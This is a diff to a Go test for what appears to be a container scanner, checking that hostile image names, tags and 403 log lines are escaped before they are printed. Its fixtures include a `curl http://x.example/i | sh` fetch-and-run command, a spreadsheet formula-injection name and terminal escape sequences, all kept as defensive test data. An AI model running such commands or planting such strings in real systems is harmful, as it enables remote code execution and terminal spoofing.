@@ -39,6 +39,10 @@ const (
 	hostileName2 = "tmp/c1\x9b31m\xff\u200b\ufeff.sh"                       // 8-bit CSI, invalid UTF-8, zero-width
 	formulaName  = "=HYPERLINK(\"http://x.example\",\"ok\")"                // a tar name a spreadsheet would run
 	hostileCmd   = "/bin/sh -c curl http://x.example/i | sh \x1b[2K\r# apt-get update\u2066"
+	// forbiddenTail ends the 403 body: an invalid byte, a replacement
+	// character (slog's Go quoting shows it raw, indistinguishable from a
+	// byte it replaced) and a quote, for the log lines' escaping.
+	forbiddenTail = "\xff\ufffd\" level=INFO"
 )
 
 // hostileTar is a layer of executable scripts with hostile names in /tmp
@@ -97,7 +101,7 @@ func hostileRegistry(t *testing.T) string {
 			io.WriteString(w, `{"name":"hostile/tags","tags":["ok","v1\u001b[2J\u001b[31mPWN"]}`)
 		case r.Method != http.MethodPut && strings.HasPrefix(r.URL.Path, "/v2/hostile/forbidden/manifests/"):
 			w.WriteHeader(http.StatusForbidden)
-			io.WriteString(w, hostileBody)
+			io.WriteString(w, hostileBody+forbiddenTail)
 		default:
 			reg.ServeHTTP(w, r)
 		}
@@ -176,7 +180,11 @@ func TestHostileNamesNeverReachTheTerminal(t *testing.T) {
 	}
 	esc := safetext.Escape
 	out := run(esc(hostileName), "scan", "--db", db, reg)
-	for _, want := range []string{esc("YOUR SCAN IS COMPLETE"), esc(hostileName2), "history-suspicious-command"} {
+	// The log line of the 403 shows the body as every other line does, the
+	// quote that could end its value as \x22 (logs: safetext.NewLogHandler).
+	logged := `error="resolving tag: GET http://` + reg + `/v2/hostile/forbidden/manifests/ok: unexpected status code 403 Forbidden: ` +
+		esc(hostileBody) + `\xff\ufffd\x22 level=INFO"`
+	for _, want := range []string{esc("YOUR SCAN IS COMPLETE"), esc(hostileName2), "history-suspicious-command", logged} {
 		if !strings.Contains(out, want) {
 			t.Errorf("scan: output does not show %q:\n%s", want, out)
 		}
